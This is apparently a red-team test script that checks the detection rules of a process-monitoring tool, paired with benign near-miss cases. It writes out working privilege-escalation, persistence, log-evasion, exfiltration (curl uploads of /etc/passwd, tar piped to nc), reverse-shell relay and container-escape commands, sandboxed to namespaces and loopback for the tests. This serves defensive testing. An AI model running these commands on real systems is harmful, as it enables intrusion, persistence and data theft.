"""Red-team variants, second pass: techniques the first pass (redteam.py) did not cover.

Privilege escalation and persistence (a setuid copy of a shell, file capabilities on a
copy of python, a uid-0 account line, sudoers.d / cron.d / PAM drops, systemd user units,
authorized_keys appends), defense evasion (kernel-thread names, timestomping, history
sent to /dev/null, a hidden executable), discovery and exfiltration (a loopback port scan,
SUID enumeration, curl uploads of system files, an archive piped to nc, an ssh reverse
tunnel) and container-escape moves (nsenter into pid 1's namespaces, the docker API
socket). Same protocol as redteam.py (``NAME PID RC`` per forked child in LOG):

    probewatch watch --json -- python redteam2.py --ctx CTX.json --log LOG NAME...

Writes to system paths happen only inside an unshared mount namespace, on a tmpfs or a
bind-mounted temporary copy mounted over the real path (the real file is never touched);
everything else lands in the scratch directory or the fake HOME.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from forked import run_each  # noqa: E402
from redteam import PY, Ctx, Listener, Web  # noqa: E402

NS = ["unshare", "-m", "--propagation", "private"]
#: the port of the loopback exfil sink (set by main)
SINK = [0]


def _in_ns(c: Ctx, script: str) -> int:
    """SCRIPT as root in a fresh mount namespace (its mounts vanish with it)."""
    return c.run([*NS, "/bin/bash", "-c", script])


# ------------------------------------------------------------------ privilege, persistence

def pv_shell_copy_suid(c: Ctx) -> None:
    p = c.scratch / "dbus-helper"
    c.bash(f"cp /bin/bash {p} && chmod u+s {p}; rm -f {p}")


def pv_chmod_4755_perl(c: Ctx) -> None:
    p = c.scratch / "sv"
    c.run(["perl", "-e", f'open(F,">","{p}");close F;chmod 04755,"{p}";unlink "{p}"'])


def pv_setcap_python(c: Ctx) -> None:
    p = c.scratch / "py"
    c.bash(f"cp {os.path.realpath(PY)} {p} && setcap cap_setuid+ep {p}; rm -f {p}")


def pe_passwd_uid0_ns(c: Ctx) -> None:
    cp = c.scratch / "pw.copy"
    cp.write_text(Path("/etc/passwd").read_text())
    _in_ns(c, f"mount --bind {cp} /etc/passwd && "
              "echo 'sysd:x:0:0::/root:/bin/bash' >> /etc/passwd")
    cp.unlink()


def pe_sudoers_d_ns(c: Ctx) -> None:
    # /etc on a tmpfs in the namespace (sudo may not be installed: no sudoers.d to cover)
    _in_ns(c, "mount -t tmpfs none /etc && mkdir /etc/sudoers.d && "
              "echo 'www-data ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-www")


def pe_cron_d_ns(c: Ctx) -> None:
    _in_ns(c, "mount -t tmpfs none /etc/cron.d && "
              "printf '* * * * * root /bin/true\\n' > /etc/cron.d/sysstat2")


def pe_pam_config_ns(c: Ctx) -> None:
    _in_ns(c, "mount -t tmpfs none /etc/pam.d && "
              "echo 'auth sufficient pam_permit.so' > /etc/pam.d/common-auth")


def pe_pam_sed_ns(c: Ctx) -> None:
    # an in-place edit (sed -i writes a temp file and renames it over the original)
    _in_ns(c, "mount -t tmpfs none /etc/pam.d && echo 'auth required pam_unix.so' > "
              "/etc/pam.d/sshd-x && sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd-x")


def pe_pam_module_ns(c: Ctx) -> None:
    d = "/usr/lib/x86_64-linux-gnu/security"
    _in_ns(c, f"mount -t tmpfs none {d} && cp /usr/lib/x86_64-linux-gnu/libc.so.6 "
              f"{d}/pam_unix2.so")


def pe_systemd_user_unit(c: Ctx) -> None:
    d = c.home / ".config" / "systemd" / "user"
    c.bash(f"mkdir -p {d} && printf '[Service]\\nExecStart=/bin/true\\n' > {d}/dbus-x.service")


def pe_authorized_keys_append(c: Ctx) -> None:
    c.bash("mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3Nza attacker' >> "
           "~/.ssh/authorized_keys")


def pe_ld_so_preload_ns(c: Ctx) -> None:
    # /etc on a tmpfs in the namespace: ld.so.preload is created there, not on the host
    _in_ns(c, "mount -t tmpfs none /etc && echo /tmp/x.so > /etc/ld.so.preload")


# ------------------------------------------------------------------ defense evasion

def ev_exec_a_kworker(c: Ctx) -> None:
    c.bash("exec -a '[kworker/0:1]' sleep 0")


def ev_prctl_kthread_name(c: Ctx) -> None:
    c.run(["perl", "-e", 'my $n = "kworker/u8:2"; syscall(157, 15, $n)'])


def ev_touch_reference(c: Ctx) -> None:
    p = c.scratch / "implant"
    c.bash(f"touch {p} && touch -r /bin/ls {p}; rm -f {p}")


def ev_touch_date(c: Ctx) -> None:
    p = c.scratch / "implant2"
    c.bash(f"touch {p} && touch -d '2019-03-01 10:00' {p}; rm -f {p}")


def ev_perl_utime(c: Ctx) -> None:
    p = c.scratch / "implant3"
    p.write_text("x")
    c.run(["perl", "-e", f'utime 1500000000, 1500000000, "{p}"'])
    p.unlink()


def ev_history_devnull(c: Ctx) -> None:
    c.bash("ln -sf /dev/null ~/.bash_history")
    (c.home / ".bash_history").unlink(missing_ok=True)


def ev_history_clear_script(c: Ctx) -> None:
    c.script("hc.sh", "set -o history\nhistory -c\nset +o history\n")


def ev_audit_disable(c: Ctx) -> None:
    # systemctl on a scratch root: the host's services are never touched
    root = c.scratch / "sysroot"
    (root / "etc" / "systemd" / "system").mkdir(parents=True)
    c.run(["systemctl", f"--root={root}", "disable", "auditd.service"])
    c.run(["systemctl", f"--root={root}", "mask", "rsyslog.service"])
    shutil.rmtree(root)


def ev_hidden_exec(c: Ctx) -> None:
    # a hidden directory under /var (not a temp dir: exec_from_tmp_shm's), hidden name
    d = Path(f"/var/cache/.pwrt-{os.getpid()}")
    d.mkdir()
    try:
        c.bash(f"cp /bin/true {d}/.dbus-update && {d}/.dbus-update")
    finally:
        shutil.rmtree(d)


def ev_rwx_shellcode(c: Ctx) -> None:
    d = c.scratch / "rwx"
    d.mkdir()
    (d / "sc.c").write_text(
        "#include <sys/mman.h>\n#include <string.h>\n"
        "int main(void){unsigned char ret[]={0xc3};"
        "void*p=mmap(0,4096,PROT_READ|PROT_WRITE|PROT_EXEC,MAP_PRIVATE|MAP_ANONYMOUS,-1,0);"
        "if(p==MAP_FAILED)return 1;memcpy(p,ret,1);((void(*)(void))p)();return 0;}\n")
    c.run(["gcc", "-o", str(d / "sc"), str(d / "sc.c")], check=True)
    c.run([str(d / "sc")], check=True)


# ------------------------------------------------------------------ discovery, exfil

def ds_port_scan(c: Ctx) -> None:
    c.script("scan.py", "import socket\nfor p in range(20000, 20040):\n"
             "  s=socket.socket(); s.settimeout(0.2)\n"
             "  try: s.connect(('127.0.0.1',p))\n  except OSError: pass\n  s.close()\n", PY)


def ds_bash_devtcp_scan(c: Ctx) -> None:
    c.bash("for p in $(seq 21000 21030); do (echo >/dev/tcp/127.0.0.1/$p) 2>/dev/null; done; "
           "true")


def ds_curl_port_loop(c: Ctx) -> None:
    c.script("scan.sh", "for p in $(seq 22000 22029); do curl -s -m 1 http://127.0.0.1:$p/ "
             ">/dev/null && echo $p; done; true\n")


def ds_find_suid(c: Ctx) -> None:
    c.run(["find", "/usr/bin", "-perm", "-4000", "-type", "f"])


def ds_find_suid_slash(c: Ctx) -> None:
    c.bash("find /usr/sbin /usr/bin -perm /6000 2>/dev/null | head -3")


def ds_proc_cmdline_loop(c: Ctx) -> None:
    c.script("snoop.py", "import os\nfor _ in range(3):\n  for p in os.listdir('/proc'):\n"
             "    if p.isdigit():\n      try: open('/proc/%s/cmdline'%p,'rb').read()\n"
             "      except OSError: pass\n", PY)


def ex_curl_upload(c: Ctx) -> None:
    c.run(["curl", "-s", "-T", "/etc/passwd", f"http://127.0.0.1:{c.http}/u"])


def ex_curl_data_file(c: Ctx) -> None:
    c.run(["curl", "-s", "--data-binary", "@/etc/hosts", f"http://127.0.0.1:{c.http}/u"])


def ex_wget_post_file(c: Ctx) -> None:
    c.run(["wget", "-q", "-O", "/dev/null", "--post-file=/etc/group",
           f"http://127.0.0.1:{c.http}/u"])


def ex_tar_pipe_nc(c: Ctx) -> None:
    c.bash(f"tar czf - /etc/hostname 2>/dev/null | busybox nc 127.0.0.1 {SINK[0]}")


def ex_tar_nc_script(c: Ctx) -> None:
    c.script("bk.sh", f"cd /\ntar cf - etc/hostname /etc/os-release 2>/dev/null | "
             f"busybox nc 127.0.0.1 {SINK[0]}\n")


def rs_python_pipe_relay(c: Ctx) -> None:
    # the shell's stdio are pipes; python relays between them and the socket
    c.script("relay.py", "import socket,subprocess\n"
             f"s=socket.create_connection(('127.0.0.1',{c.port}))\n"
             "p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,"
             "stderr=subprocess.STDOUT)\n"
             "data=b''\nwhile True:\n  b=s.recv(4096)\n  if not b: break\n  data+=b\n"
             "  if b'exit' in data: break\n"
             "out,_=p.communicate(data)\ns.sendall(out)\ns.close()\n", PY)


def lat_ssh_reverse_tunnel(c: Ctx) -> None:
    c.run(["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
           "ConnectTimeout=3", "-N", "-R", "2222:127.0.0.1:22", "-p", str(c.port),
           "nobody@127.0.0.1"], timeout=10)


# ------------------------------------------------------------------ container escape

def lat_ssh_socks(c: Ctx) -> None:
    c.run(["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
           "ConnectTimeout=3", "-fN", "-D", "127.0.0.1:1080", "-p", str(c.port),
           "nobody@127.0.0.1"], timeout=10)


def ce_nsenter_pid1(c: Ctx) -> None:
    c.run(["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "true"])


def ce_chroot_init_root(c: Ctx) -> None:
    c.run(["chroot", "/proc/1/root", "true"])


def ce_docker_sock_ns(c: Ctx) -> None:
    _in_ns(c, "mount -t tmpfs none /run && "
              f"{PY} -c \"import socket,threading\n"
              "s=socket.socket(socket.AF_UNIX);s.bind('/run/docker.sock');s.listen(1)\n"
              "threading.Thread(target=lambda:s.accept()[0].close(),daemon=True).start()\n"
              "import subprocess;subprocess.run(['curl','-s','--max-time','2','--unix-socket',"
              "'/run/docker.sock','http://x/containers/json'])\"")


# ------------------------------------------------------------------ benign near-misses

def bn_touch_now(c: Ctx) -> None:
    p = c.scratch / "stamp"
    c.bash(f"touch {p}; touch -c {p}; touch -a {p}; rm -f {p}")


def bn_find_by_name(c: Ctx) -> None:
    c.bash("find /usr/share/doc -maxdepth 2 -name 'copyright' | head -3; "
           "find /etc -maxdepth 1 -type f -newer /etc/hostname | head -2; "
           "find /usr/bin -maxdepth 1 -perm -u+x -name 'ls'")


def bn_identity_lookups(c: Ctx) -> None:
    c.bash("id; id root; getent passwd root; getent group sudo; whoami; "
           "grep -c . /etc/passwd; crontab -l 2>/dev/null; true")


def bn_unit_read(c: Ctx) -> None:
    c.bash("cat /lib/systemd/system/ssh.service /lib/systemd/system/cron.service "
           "2>/dev/null | head -3; systemctl cat cron --no-pager 2>/dev/null | head -2; "
           "systemctl status rsyslog --no-pager >/dev/null 2>&1; true")


def bn_curl_post_json(c: Ctx) -> None:
    p = c.scratch / "body.json"
    p.write_text('{"a": 1}\n')
    c.run(["curl", "-s", "-X", "POST", "-H", "Content-Type: application/json", "-d", '{"b":2}',
           f"http://127.0.0.1:{c.http}/api"])
    p.unlink()


def bn_ssh_local_forward_help(c: Ctx) -> None:
    c.bash("ssh -V; ssh-keygen -l -f /etc/ssh/ssh_host_ed25519_key.pub >/dev/null 2>&1; true")


def bn_chmod_plain(c: Ctx) -> None:
    p = c.scratch / "tool"
    c.bash(f"cp /bin/true {p} && chmod 755 {p} && chmod u+x,g-w {p} && {p}; rm -f {p}")


def bn_few_connects(c: Ctx) -> None:
    c.bash(f"for i in 1 2 3; do curl -s -o /dev/null http://127.0.0.1:{c.http}/x; done")


def bn_backup_tar(c: Ctx) -> None:
    # a backup of /etc to a file, and a network client used alone
    d = c.scratch / "bk"
    d.mkdir()
    c.bash(f"tar czf {d}/etc.tgz /etc/hostname 2>/dev/null; busybox nc -h 2>/dev/null; true")
    shutil.rmtree(d)


def bn_connect_then_sh_c(c: Ctx) -> None:
    # a client program that connects, then runs shell commands the usual way (sh -c)
    c.script("client.py", "import socket,subprocess\n"
             f"s=socket.create_connection(('127.0.0.1',{c.http}));s.close()\n"
             "subprocess.run('true; echo hi >/dev/null',shell=True)\n"
             "subprocess.run(['/bin/bash','-c','true'])\n", PY)


def bn_unshare_tmpfs(c: Ctx) -> None:
    # a private tmpfs in a namespace (build sandboxes do this): nothing persistent written
    _in_ns(c, "mount -t tmpfs none /mnt && echo x > /mnt/y && cat /mnt/y >/dev/null")


Variant = tuple[Callable[[Ctx], None], frozenset[str]]


def _v(f: Callable[[Ctx], None], *rules: str) -> Variant:
    return (f, frozenset(rules))


#: name -> (function, the rule file stems that must alert; empty: benign work)
VARIANTS: dict[str, Variant] = {
    "pv_shell_copy_suid": _v(pv_shell_copy_suid, "setuid_setgid_bit"),
    "pv_chmod_4755_perl": _v(pv_chmod_4755_perl, "setuid_setgid_bit"),
    "pv_setcap_python": _v(pv_setcap_python, "file_capabilities_set"),
    "pe_passwd_uid0_ns": _v(pe_passwd_uid0_ns, "account_files_write"),
    "pe_sudoers_d_ns": _v(pe_sudoers_d_ns, "sudoers_write"),
    "pe_cron_d_ns": _v(pe_cron_d_ns, "cron_persistence"),
    "pe_pam_config_ns": _v(pe_pam_config_ns, "pam_persistence"),
    "pe_pam_sed_ns": _v(pe_pam_sed_ns, "pam_persistence"),
    "pe_pam_module_ns": _v(pe_pam_module_ns, "pam_persistence"),
    "pe_systemd_user_unit": _v(pe_systemd_user_unit, "systemd_unit_persistence"),
    "pe_authorized_keys_append": _v(pe_authorized_keys_append, "ssh_authorized_keys_write"),
    "pe_ld_so_preload_ns": _v(pe_ld_so_preload_ns, "ld_so_preload_write"),
    "ev_exec_a_kworker": _v(ev_exec_a_kworker, "kernel_thread_masquerade"),
    "ev_prctl_kthread_name": _v(ev_prctl_kthread_name, "prctl_kernel_thread_name"),
    "ev_touch_reference": _v(ev_touch_reference, "timestomp_touch"),
    "ev_touch_date": _v(ev_touch_date, "timestomp_touch"),
    "ev_perl_utime": _v(ev_perl_utime, "timestomp_syscall"),
    "ev_history_devnull": _v(ev_history_devnull, "history_file_deleted", "history_file_tampering"),
    "ev_audit_disable": _v(ev_audit_disable, "security_logging_disabled"),
    "ev_hidden_exec": _v(ev_hidden_exec, "exec_from_hidden_path"),
    "ds_port_scan": _v(ds_port_scan, "port_scan_connect_burst"),
    "ds_bash_devtcp_scan": _v(ds_bash_devtcp_scan, "shell_network_connection",
                              "port_scan_shell_loop"),
    "ds_curl_port_loop": _v(ds_curl_port_loop, "port_scan_shell_loop"),
    "ds_find_suid": _v(ds_find_suid, "find_suid_enumeration"),
    "ds_find_suid_slash": _v(ds_find_suid_slash, "find_suid_enumeration"),
    "ex_curl_upload": _v(ex_curl_upload, "http_client_file_upload"),
    "ex_curl_data_file": _v(ex_curl_data_file, "http_client_file_upload"),
    "ex_wget_post_file": _v(ex_wget_post_file, "http_client_file_upload"),
    "ex_tar_pipe_nc": _v(ex_tar_pipe_nc, "archive_to_network_client"),
    "ex_tar_nc_script": _v(ex_tar_nc_script, "archive_to_network_client"),
    "rs_python_pipe_relay": _v(rs_python_pipe_relay, "child_shell_after_connect"),
    "lat_ssh_reverse_tunnel": _v(lat_ssh_reverse_tunnel, "ssh_remote_tunnel"),
    "lat_ssh_socks": _v(lat_ssh_socks, "ssh_remote_tunnel"),
    "ce_nsenter_pid1": _v(ce_nsenter_pid1, "host_namespace_enter"),
    "ce_chroot_init_root": _v(ce_chroot_init_root, "host_namespace_enter"),
    "ce_docker_sock_ns": _v(ce_docker_sock_ns, "container_runtime_socket"),
    # benign
    "bn_touch_now": _v(bn_touch_now),
    "bn_find_by_name": _v(bn_find_by_name),
    "bn_identity_lookups": _v(bn_identity_lookups),
    "bn_unit_read": _v(bn_unit_read),
    "bn_curl_post_json": _v(bn_curl_post_json),
    "bn_ssh_local_forward_help": _v(bn_ssh_local_forward_help),
    "bn_chmod_plain": _v(bn_chmod_plain),
    "bn_few_connects": _v(bn_few_connects),
    "bn_unshare_tmpfs": _v(bn_unshare_tmpfs),
    "bn_backup_tar": _v(bn_backup_tar),
    "bn_connect_then_sh_c": _v(bn_connect_then_sh_c),
}

#: variants no rule catches (docs/detection.md, "Second pass"): history builtins in a
#: script make no syscall; mmap/mprotect are not traced; reading every /proc/PID/cmdline is
#: what ps and top do. Run them by name to see; not asserted by the tests.
KNOWN_MISSES: dict[str, Variant] = {
    "ev_history_clear_script": _v(ev_history_clear_script),
    "ev_rwx_shellcode": _v(ev_rwx_shellcode),
    "ds_proc_cmdline_loop": _v(ds_proc_cmdline_loop),
}


def main(argv: list[str]) -> int:
    import argparse

    ap = argparse.ArgumentParser()
    ap.add_argument("--ctx", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("names", nargs="+")
    a = ap.parse_args(argv)
    ctx = Ctx(json.loads(Path(a.ctx).read_text()))
    table = {**VARIANTS, **KNOWN_MISSES}
    unknown = [n for n in a.names if n not in table]
    if unknown:
        print(f"unknown variants: {unknown}", file=sys.stderr)
        return 2
    ctx.port = Listener().port
    ctx.http = Web().port
    SINK[0] = Listener(greeting=b"").port
    run_each(a.names, lambda n: table[n][0](ctx), a.log)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
